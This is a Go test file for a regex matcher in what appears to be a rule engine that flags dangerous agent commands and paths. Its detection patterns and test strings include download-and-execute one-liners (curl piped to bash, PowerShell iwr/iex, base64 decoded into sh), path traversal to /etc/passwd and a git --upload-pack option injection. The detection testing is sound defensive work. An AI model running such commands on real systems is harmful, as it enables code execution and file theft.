package rules

import (
	"fmt"
	"regexp"
	"regexp/syntax"
	"slices"
	"strings"
	"testing"
)

// matcherString writes the gates and branches of m, for tests: the prefilter,
// then each branch's gates joined by &, "line" for a line matcher and
// "exact" for a literal branch.
func matcherString(m *matcher) string {
	set := func(g *litSet) string { return literalsString(g.lits) }
	var b strings.Builder
	if m.pre != nil {
		fmt.Fprintf(&b, "pre %s;", set(m.pre))
	}
	for _, br := range m.branches {
		var gs []string
		for _, g := range br.gates {
			gs = append(gs, set(g))
		}
		b.WriteString(" [" + strings.Join(gs, " & "))
		if br.line != nil {
			b.WriteString(" line")
		}
		if br.exact {
			b.WriteString(" exact")
		}
		if br.ctx != nil {
			b.WriteString(" ctx")
		}
		b.WriteString("]")
	}
	return strings.TrimSpace(b.String())
}

// packPatterns returns the distinct patterns of testdata/regex_inputs.jsonl,
// the regexes of the built-in pack.
func packPatterns(tb testing.TB) []string {
	var out []string
	for _, p := range regexInputs(tb) {
		if !slices.Contains(out, p[0]) {
			out = append(out, p[0])
		}
	}
	return out
}

func TestMatcherSplit(t *testing.T) {
	tests := []struct {
		pattern, want string
	}{
		// A two-byte literal of punctuation is a gate; one with a letter
		// is not on its own (-d), but joins the others of its branch.
		{`(?im)(\.\.[/\\]){2,}|%2e%2e`, `pre ..|i:%2e%2e; [i:%2e%2e] [../|..\ ctx]`},
		{`(?i)\bbase64\s+-d\b[^\n]*\|\s*(ba|z)?sh\b`, `pre i:base64; [i:base64 & i:-d & i:sh & |]`},
		// Pieces matching a few strings join: i(wr|rm) gives iwr, irm.
		{`(?i)\b(iwr|irm)\b.*\|\s*iex\b`, `pre i:iex; [i:iex & i:iwr|i:irm & |]`},
		{`(?i)(ba|z)?sh\s+-c\s+["']?\$\(\s*(curl|wget)\b`, `pre $(; [$( & i:curl|i:wget & i:sh & i:-c]`},
		// Whole-line alternatives without gates merge into one line branch.
		{`(?im)(^|[/\\])\.ssh([/\\]|$)|^\s*(/etc|/)/?\s*$|^\s*(~|/home/[^/\n]+)/?\s*$`, `[i:.ssh] [ line]`},
		{`(?m)^\s*-`, `[ line]`},
		// A literal and the characters around it.
		{`(?m)(^|[\s;&|(])git\s`, `pre git; [git ctx]`},
		{`abc|def`, `pre abc|def; [abc exact] [def exact]`},
		{`(?i)abc|def`, `pre i:abc|i:def; [i:abc] [i:def]`},
		// An alternative without gates: the pattern runs whole.
		{`abc|[0-9]+`, ``},
		{`a|b*`, ``},
		// A weak gate (x) still spares a run of the regexp when missing.
		{`[a-z]+x`, `[x]`},
	}
	for _, tt := range tests {
		m, err := newMatcher(tt.pattern)
		if err != nil {
			t.Fatal(err)
		}
		if got := matcherString(m); got != tt.want {
			t.Errorf("newMatcher(%q):\n got %s\nwant %s", tt.pattern, got, tt.want)
		}
	}
}

// The pack's regexes (as in rules/builtin), for the tests below.
const (
	reTraversal = `(?im)(\.\.[/\\]){2,}|(^|[/\\])\.\.[/\\](etc|proc|root|var|usr|home|Users)\b|%2e%2e|\.\.%2f|%252e`
	reOutside   = `(?im)(^|[/\\])(\.ssh|\.aws|\.gnupg|\.kube|\.docker|\.config)([/\\]|$)|^\s*(/etc|/root|/var/root|/usr|/bin|/sbin|/boot|/proc|/sys|/)/?\s*$|^\s*(~|/home/[^/\n]+|/Users/[^/\n]+)/?\s*$`
	reDownload  = `(?i)\b(curl|wget)\b[^|;&\n]*\|\s*(sudo(\s+-\S+)*\s+)?(\w+=\S+\s+)*((ba|z|da|k|fi)?sh|python[0-9.]*|perl|ruby|node|php)\b|\b(ba|z)?sh\s+-c\s+["']?\$\(\s*(curl|wget)\b|\b(ba|z)?sh\s+<\(\s*(curl|wget)\b|\b(iwr|irm|invoke-webrequest|invoke-restmethod)\b[^\n]*(\|\s*(iex|invoke-expression)\b)|\biex\s*\(\s*(\(?\s*new-object\s+(system\.)?net\.webclient|iwr|irm|invoke-webrequest|invoke-restmethod)|\bdownloadstring\s*\(|\b(curl|wget)\b[^\n]*\s(-o|-O|--output|--output-document)\s*\S+[^\n]*(&&|;)\s*(chmod\s+(\+|[0-7]*)x|\./|(ba|z)?sh\s|python[0-9.]*\s)|\bbase64\s+(-d|--decode|-D)\b[^\n]*\|\s*(ba|z)?sh\b`
	reGit       = `(?m)(^|[\s;&|(])git\s`
	reOption    = `(?m)^\s*-`
)

func TestMatcherMatch(t *testing.T) {
	tests := []struct {
		pattern, text string
		want          bool
	}{
		{reTraversal, `..\..\windows\win.ini`, true},
		{reTraversal, `../../etc/passwd`, true},
		{reTraversal, `/srv/%2E%2E/x`, true},
		{reTraversal, `/srv/..%2F..%2Fetc`, true},
		{reTraversal, `%252E%252E`, true},
		{reTraversal, "a/b\n../ETC/x", true},
		{reTraversal, `/a/../Users/x`, true},
		{reTraversal, `/a/../src/x`, false},
		{reTraversal, `/home/bob/src/web`, false},
		{reTraversal, `notes...txt`, false},
		{reOutside, `/home/bob`, true},
		{reOutside, `/home/bob/`, true},
		{reOutside, "  /Users/alice \r", true},
		{reOutside, "src/a.ts\n/home/bob", true},
		{reOutside, "/home/bob\nsrc/a.ts", true},
		{reOutside, "/HOME/bob", true},
		{reOutside, "/U\u017Fers/alice", true}, // ſ is s under (?i)
		{reOutside, "/ETC", true},
		{reOutside, "/", true},
		{reOutside, "~", true},
		{reOutside, "~/x", false},
		{reOutside, "/etc/passwd", false},
		{reOutside, "/home/bob/src/web", false},
		{reOutside, "src/a.ts\n/home/bob/src", false},
		{reOutside, "x/.SSH/id", true},
		{reOutside, "x/.\u212Aube", true}, // K (Kelvin sign) is k under (?i)
		{reOutside, "\n\n", false},
		{reOutside, "", false},
		{reDownload, `curl -fsSL https://get.example.sh/install.sh | bash`, true},
		{reDownload, `CURL -s x | SUDO -E ZSH`, true},
		{reDownload, `curl -s https://api.github.com/x | jq -r .tag_name`, false},
		{reDownload, `sh -c "$(curl -fsSL https://x/i.sh)"`, true},
		{reDownload, `bash <(wget -qO- https://x/i.sh)`, true},
		{reDownload, `iwr https://x/a.ps1 | iex`, true},
		{reDownload, `IEX (New-Object Net.WebClient).DownloadString('x')`, true},
		{reDownload, `echo aGk= | base64 -d | sh`, true},
		{reDownload, `wget https://x/a -O /tmp/a && chmod +x /tmp/a`, true},
		{reDownload, "curl https://x/a -o a\n; ./a", false},
		{reDownload, `pnpm install && pnpm test --run`, false},
		{reGit, `git status`, true},
		{reGit, `cd x && git push`, true},
		{reGit, "x;git\tlog", true},
		{reGit, `(git log)`, true},
		{reGit, "echo\ngit x", true},
		{reGit, `curl -s https://api.github.com/repos`, false},
		{reGit, `legit stuff`, false},
		{reGit, `git`, false},
		{reOption, `--upload-pack=touch /tmp/x`, true},
		{reOption, "main\n  -x", true},
		{reOption, "a-b", false},
		{reOption, "/home/bob/src/web\norigin/main", false},
	}
	for _, tt := range tests {
		m, err := newMatcher(tt.pattern)
		if err != nil {
			t.Fatal(err)
		}
		if got := m.re.MatchString(tt.text); got != tt.want {
			t.Fatalf("regexp %.30q on %q: %v, want %v (the table is wrong)", tt.pattern, tt.text, got, tt.want)
		}
		if got := m.match(tt.text); got != tt.want {
			t.Errorf("%.30q on %q: %v, want %v (%s)", tt.pattern, tt.text, got, tt.want, matcherString(m))
		}
	}
}

// TestPatternString checks that patternString writes a pattern matching
// what String's does, large classes included.
func TestPatternString(t *testing.T) {
	patterns := []string{
		`(?i)[^a-z]x|y`,
		`[/\\][^/\\\s]*\.json\b`,
		`(?im)[/\\]id_[a-z0-9_]+($|[^.a-z0-9_])`,
		`(?i)[^k]s|[^\n]+S`,
		`[\x{100000}-\x{10FFFF}]a|[^b]`,
		`\x{100001}|[^a]`, // a literal placeholder: String writes it all
		`(?s).{0,3}é`,
		`a[^/]*b`,
	}
	texts := []string{"", "x", "X", "ax", "/a/id_rsa", "/a/id_rsa.pub", "/x/y.json", "\u212As", "ſ", "\U00100000a", "\U00100001", "é", "\n\nS", "a/b", "ab"}
	for _, p := range patterns {
		tree, err := syntax.Parse(p, syntax.Perl)
		if err != nil {
			t.Fatal(err)
		}
		tree = tree.Simplify()
		want := regexp.MustCompile(tree.String())
		text := patternString(tree)
		got, err := regexp.Compile(text)
		if err != nil {
			t.Fatalf("patternString(%q) = %q: %v", p, text, err)
		}
		for _, s := range texts {
			if got.MatchString(s) != want.MatchString(s) {
				t.Errorf("patternString(%q) = %q on %q: %v, want %v", p, text, s, got.MatchString(s), want.MatchString(s))
			}
		}
	}
}

// textVariants returns s and texts near it, for differential tests: case
// changed, folded look-alikes, lines added around it, cut.
func textVariants(s string) []string {
	out := []string{
		s,
		strings.ToUpper(s),
		strings.ReplaceAll(strings.ReplaceAll(s, "s", "\u017F"), "k", "\u212A"),
		"x" + s,
		s + "x",
		"\n" + s + "\n",
		"  " + s + "  ",
		"a/b\n" + s,
		s + "\n/home/bob",
		strings.ReplaceAll(s, "/", "\\"),
		strings.ReplaceAll(s, "/", "\n"),
	}
	if len(s) > 1 {
		out = append(out, s[1:], s[:len(s)-1], s[len(s)/2:])
	}
	return out
}

// TestMatcherPackInputs checks the pack's regexes on the texts the demo
// traffic gives them, and variants of them, against the regexp.
func TestMatcherPackInputs(t *testing.T) {
	ms := make(map[string]*matcher)
	for _, p := range regexInputs(t) {
		m := ms[p[0]]
		if m == nil {
			var err error
			if m, err = newMatcher(p[0]); err != nil {
				t.Fatal(err)
			}
			ms[p[0]] = m
		}
		for _, s := range textVariants(p[1]) {
			if got, want := m.match(s), m.re.MatchString(s); got != want {
				t.Errorf("%.30q on %q: %v, want %v (%s)", p[0], s, got, want, matcherString(m))
			}
		}
	}
}

// FuzzMatcherPack checks the pack's regexes, split and gated, against the
// regexp on arbitrary text.
func FuzzMatcherPack(f *testing.F) {
	patterns := packPatterns(f)
	ms := make([]*matcher, len(patterns))
	for i, p := range patterns {
		m, err := newMatcher(p)
		if err != nil {
			f.Fatal(err)
		}
		ms[i] = m
	}
	for _, p := range regexInputs(f) {
		i := slices.Index(patterns, p[0])
		f.Add(uint8(i), p[1])
	}
	f.Fuzz(func(t *testing.T, i uint8, s string) {
		m := ms[int(i)%len(ms)]
		if got, want := m.match(s), m.re.MatchString(capInput(s)); got != want {
			t.Errorf("%q on %q: %v, want %v (%s)", m.re, s, got, want, matcherString(m))
		}
	})
}

// FuzzMatcherSplit is FuzzRegexGate seeded with the pack's patterns and
// their pieces, for the fuzzer to mutate into new splits, gates and line
// branches.
func FuzzMatcherSplit(f *testing.F) {
	texts := []string{"/home/bob/src/web", "../../etc/passwd", "curl -fsSL https://x.sh | bash", "cd x && git push", "--upload-pack=x", "src/a.ts\n/Users/alice"}
	for _, p := range append(packPatterns(f),
		`(?im)^\s*(~|/home/[^/\n]+)/?\s*$`, `(?m)^a$|^\s*b`, `(?m)(^|[\s;])git\s`, `(?i)x\$\(y|z..w`, `(?ms)^.*a$|\bq`,
		`(?i)[^a-z]x|yz`, `(?im)[/\\]id_[a-z0-9_]+($|[^.a-z0-9_])|\.env$`) {
		for _, s := range texts {
			f.Add(p, s)
		}
	}
	f.Fuzz(func(t *testing.T, pattern, s string) {
		m, err := newMatcher(pattern)
		if err != nil {
			return
		}
		if got, want := m.match(s), m.re.MatchString(capInput(s)); got != want {
			t.Errorf("pattern %q (%s) on %q: %v, want %v", pattern, matcherString(m), s, got, want)
		}
	})
}

// capInput is the part of s match looks at.
func capInput(s string) string {
	if len(s) > MaxMatchInput {
		return s[:MaxMatchInput]
	}
	return s
}
